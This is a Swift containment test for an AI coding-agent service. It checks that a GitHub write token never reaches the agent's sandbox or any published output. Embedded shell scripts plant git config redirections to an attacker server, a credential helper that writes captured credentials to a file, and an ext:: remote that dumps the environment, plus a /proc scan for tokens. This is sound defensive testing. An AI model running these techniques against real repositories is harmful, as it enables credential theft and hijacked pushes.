import DayshiftConfig
import Emulators
import Foundation
import IssueObjects
import Testing

/// The write credential stays at home: code in the sandbox (the agent, and the repository's own
/// test suite) plants every known git trick for redirecting a push and hunts for credentials in
/// every process and file it can see; nothing is found, nothing reaches the attacker's server, and
/// no secret Dayshift holds appears in a comment, a pull request, a log line or a stored row.
@Suite("Write-token containment", .serialized)
struct WriteTokenContainmentTests {
    /// A personal access token configured beside the App: the server holds it, the sandbox must never see it.
    static let plantedToken = "ghp_PLANTED" + String(UUID().uuidString.replacingOccurrences(of: "-", with: "").prefix(24))  // made at test time

    /// Plants the four redirections of a push: `url.<x>.insteadOf`, `[include]`/`[includeIf]`,
    /// `remote.<url>.url`, and `protocol.ext.allow` with an `ext::` remote, in `~/.gitconfig` and in
    /// the clone's `.git/config`. `$1` is the attacker's server.
    static let plant = """
    #!/bin/sh
    evil="$1"
    cat > "$HOME/.gitconfig" <<EOF
    [url "$evil/"]
    \tinsteadOf = https://
    \tinsteadOf = file://
    \tpushInsteadOf = file://
    [include]
    \tpath = $HOME/.evil-include
    [includeIf "gitdir:/"]
    \tpath = $HOME/.evil-include
    [protocol "ext"]
    \tallow = always
    EOF
    printf '[credential]\\n\\thelper = !sh -c "cat >> $HOME/stolen-credentials"\\n[http]\\n\\textraHeader = X-Evil: planted\\n' > "$HOME/.evil-include"
    origin="$(git remote get-url origin)"
    git config --local remote."$origin".url "$evil/stolen.git"
    git config --local protocol.ext.allow always
    git config --local remote.origin.url "ext::sh -c 'env >> $HOME/ext-env; exit 1'"
    git config --local remote.origin.pushurl "ext::sh -c 'env >> $HOME/ext-env; exit 1'"

    """

    /// Looks wherever a sandbox can for a credential and prints only where, never what (so that
    /// redaction cannot hide a leak from the test).
    static let hunt = """
    #!/bin/sh
    found=""
    for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do
      if { tr '\\0' '\\n' < "$f"; } 2>/dev/null | grep -qE 'ghs_|PLANTED|x-access-token|AUTHORIZATION|Authorization: (Basic|Bearer)'; then found="$found $f"; fi
    done
    for f in "$HOME/stolen-credentials" "$HOME/ext-env"; do [ -s "$f" ] && found="$found $f"; done
    if grep -rlsE 'ghs_|PLANTED' "$HOME" --exclude=hunt.sh --exclude=plant.sh >/dev/null 2>&1; then found="$found files-under-home"; fi
    if [ -n "$found" ]; then echo "LEAK-FOUND:$found"; else echo "hunt: nothing found"; fi

    """

    @Test("planted git redirections and a /proc hunt, by the agent and by the test suite, find no write credential anywhere")
    func nothingLeaks() async throws {
        let collector = try await GitHubEmulator.start()  // the attacker's server: records whatever reaches it
        defer { Task { await collector.stop() } }
        let evil = collector.baseURL.absoluteString
        let agent = EndToEndHarness.fixingAgent + """

        sh plant.sh '\(evil)'
        sh hunt.sh > hunt-by-agent.txt
        """
        let logs = LogCapture()
        try await EndToEndHarness.with(agentScript: agent, extraFiles: ["plant.sh": Self.plant, "hunt.sh": Self.hunt], configure: {
            $0.github.token = Self.plantedToken
            $0.repositories["octo/calculator"]?.testCommand = "sh plant.sh '\(evil)'; sh hunt.sh; python3 -m unittest -q"
        }) { harness in
            try await harness.startServer(logs: logs)
            try await harness.send(harness.payloads.issueLabeled(number: 1, title: "add() subtracts", body: ""))
            let journal = try await harness.waitForFinishedRun(1)
            #expect(journal.run.status == .succeeded, "\(journal.failedStep?.error ?? "")")

            // What the sandbox found, from the agent (published on the branch) and the test suite (its output).
            #expect(try await harness.repository.file("hunt-by-agent.txt", at: "dayshift/issue-1") == "hunt: nothing found\n")
            #expect(journal.baseline?.tail.contains("hunt: nothing found") == true)
            #expect(journal.verify?.tail.contains("hunt: nothing found") == true)
            // Nothing reached the attacker's server.
            #expect(await collector.state.recordedRequests.isEmpty)

            // No secret Dayshift holds is anywhere people or the database can see.
            let instance = try #require(harness.instance)
            let secrets = await instance.github.knownSecrets().filter { $0.count >= 8 } + [Self.plantedToken, EndToEndHarness.secret]
            #expect(secrets.contains { $0.hasPrefix("ghs_") }, "installation tokens were minted and are known")
            let pulls = await harness.pullRequests()
            let comments = await harness.comments(1)
            let published = try await harness.repository.files(at: "dayshift/issue-1")
            var visible = pulls.map { "\($0.title)\n\($0.body ?? "")" } + comments.map(\.body) + [logs.text]
            for path in published where !["hunt.sh", "plant.sh"].contains(path) { visible.append(try await harness.repository.file(path, at: "dayshift/issue-1")) }
            let stored = try Self.databaseBytes(harness.configuration.dataDirectory)
            for secret in secrets {
                let forms = [secret, Data(secret.utf8).base64EncodedString(), Data("x-access-token:\(secret)".utf8).base64EncodedString()]
                for form in forms {
                    #expect(!visible.contains { $0.contains(form) }, "a secret appears on GitHub or in the logs")
                    #expect(stored.range(of: Data(form.utf8)) == nil, "a secret is stored in the database")
                }
            }
            #expect(!visible.contains { $0.contains("LEAK-FOUND") }, "\(visible.filter { $0.contains("LEAK-FOUND") }.map { $0.prefix(3000) })")
        }
    }

    /// The SQLite database and its WAL, byte for byte (every row, live or not).
    static func databaseBytes(_ dataDirectory: String) throws -> Data {
        var bytes = Data()
        for name in ["dayshift.sqlite", "dayshift.sqlite-wal"] {
            let url = URL(fileURLWithPath: dataDirectory).appendingPathComponent(name)
            if let data = try? Data(contentsOf: url) { bytes.append(data) }
        }
        #expect(!bytes.isEmpty)
        return bytes
    }
}
